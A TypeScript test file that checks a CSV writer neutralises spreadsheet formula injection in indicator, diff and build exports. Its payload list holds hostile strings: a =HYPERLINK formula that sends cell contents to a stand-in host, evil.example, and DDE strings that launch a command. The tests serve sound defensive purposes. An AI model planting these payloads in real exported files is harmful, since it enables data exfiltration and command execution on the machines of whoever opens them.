/**
 * The one CSV writer: formulas neutralised, genuine numbers kept, cells that cannot spill, a byte-order mark;
 * and formula injection through every text column that reaches a CSV output (indicators, diff, build).
 */
import { mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { compareYearsInSeries } from '../../src/indicators/diff.js';
import { buildIndicatorReport } from '../../src/indicators/compute.js';
import { diffCsv, indicatorsCsv } from '../../src/indicators/output.js';
import { CSV_BOM, csvCell, csvDocument } from '../../src/io/csv-writer.js';
import { runCli } from '../cli/helpers.js';
import { BoardFiles } from '../corpus/board-files.js';
import { makeBoard, makeYear } from '../indicators/fixtures.js';

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '-2+3+cmd|\' /C calc\'!A0',
  '=1+1;=2+2',
];

/** A cell a spreadsheet would evaluate: starts with a formula character and is not a plain number. */
function isLive(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && cell !== '-' && !/^[-+]?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?$/.test(cell);
}

function cells(csv: string): string[][] {
  expect(csv.startsWith(CSV_BOM)).toBe(true);
  return parse(csv, { bom: true, relax_column_count: false }) as string[][];
}

describe('csvCell', () => {
  it('prefixes formulas with an apostrophe and keeps genuine numbers as numbers', () => {
    expect(csvCell('=SUM(A1:A2)')).toBe("'=SUM(A1:A2)");
    expect(csvCell('+cmd')).toBe("'+cmd");
    expect(csvCell('@SUM(1)')).toBe("'@SUM(1)");
    expect(csvCell('\t=1+1')).toBe('"\'\t=1+1"');
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell(-20)).toBe('-20');
    expect(csvCell('-8.4')).toBe('-8.4');
    expect(csvCell('+2.5e3')).toBe('+2.5e3');
    expect(csvCell('-')).toBe('-');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('say "hi", then')).toBe('"say ""hi"", then"');
    expect(csvCell(null)).toBe('');
  });

  it('never lets a cell be read as a formula or spill into another cell, and loses no text', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.oneof(fc.string(), fc.constantFrom(...PAYLOADS), fc.double(), fc.integer())), { minLength: 1, maxLength: 4 }), (rows) => {
        const width = Math.max(1, ...rows.map((r) => r.length));
        const padded = rows.map((r) => [...r, ...Array(width - r.length).fill('')]);
        const back = cells(csvDocument(Array.from({ length: width }, (_, i) => `c${i}`), padded));
        expect(back.length).toBe(padded.length + 1);
        back.slice(1).forEach((row, i) =>
          row.forEach((cell, j) => {
            expect(isLive(cell)).toBe(false);
            const original = padded[i]![j];
            if (typeof original === 'string') expect(cell.replace(/^'(?=[=+\-@\t\r])/, '')).toBe(original);
          }),
        );
      }),
      { numRuns: 500, seed: 13 },
    );
  });
});

describe('formula injection through every text column that reaches a CSV', () => {
  it('indicators and diff CSVs hold every injected source, reason and title as inert text', () => {
    const board = makeBoard(['2012-13'], [{ year: '2011-12', indicator: 'lado.referrals', value: 4, source: 'placeholder' }]);
    const years = new Map([['2012-13', makeYear('2012-13', { 'lado-referrals': [] })]]);
    const report = buildIndicatorReport(board, years, '2011-12');
    const comparison = compareYearsInSeries(report.series, '2011-12', '2012-13');
    fc.assert(
      fc.property(fc.oneof(fc.constantFrom(...PAYLOADS), fc.string()), fc.oneof(fc.constantFrom(...PAYLOADS), fc.string()), (source, text) => {
        // Every free-text field of a row (title, provenance file and source, reason) carries a payload.
        const rows = report.rows.map((r) => ({
          ...r,
          def: { ...r.def, title: text },
          current: r.current.provenance
            ? { ...r.current, provenance: { ...r.current.provenance, file: text, source } }
            : { ...r.current, reason: text },
        }));
        const diffRows = {
          ...comparison,
          rows: comparison.rows.map((r) => ({ ...r, def: { ...r.def, title: text }, a: r.a.value === null ? { ...r.a, reason: source } : r.a })),
        };
        for (const csv of [indicatorsCsv(rows), indicatorsCsv(rows, { disclosure: true } as never), diffCsv(diffRows)]) {
          for (const row of cells(csv)) for (const cell of row) expect(isLive(cell), cell).toBe(false);
        }
        const lado = cells(indicatorsCsv(rows)).find((r) => r[0] === 'lado.referrals')!;
        expect([source, `'${source}`]).toContain(lado[17]);
      }),
      { numRuns: 100, seed: 13 },
    );
  });

  const BASE = fileURLToPath(new URL('../corpus/base/', import.meta.url));
  const work = mkdtempSync(path.join(tmpdir(), 'lscb-csv-'));
  afterAll(() => rmSync(work, { recursive: true, force: true }));

  it('a published figure whose Source is =HYPERLINK(…) is inert text in build, indicators and diff CSVs', async () => {
    const payload = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const board = BoardFiles.fromDir(BASE);
    board.setCell('aggregates/published-figures.csv', 2, 'Source', payload);
    board.addRow('aggregates/published-figures.csv', ['2012-13', 'context.minority_ethnic_pct', '12', payload]);
    const dir = path.join(work, 'board');
    board.writeTo(dir);
    const out = path.join(work, 'out');

    const ind = await runCli(['indicators', '2011-12', '--data', dir, '--format', 'csv']);
    const diff = await runCli(['diff', '2011-12', '2012-13', '--data', dir, '--format', 'csv']);
    const build = await runCli(['build', '2012-13', '--data', dir, '--out', out, '--format', 'html']);
    expect(ind.code).toBe(0);
    expect(diff.code).toBe(0);
    const built = readdirSync(out, { recursive: true }).map(String).filter((f) => f.endsWith('.csv'));
    expect(built.length, build.stderr).toBe(1);
    const outputs = [ind.stdout, diff.stdout, readFileSync(path.join(out, built[0]!), 'utf8')];
    for (const csv of outputs) {
      const all = cells(csv).flat();
      for (const cell of all) expect(isLive(cell), cell).toBe(false);
    }
    expect(cells(ind.stdout).flat()).toContain(`'${payload}`);
    expect(cells(outputs[2]!).flat()).toContain(`'${payload}`);
  });
});
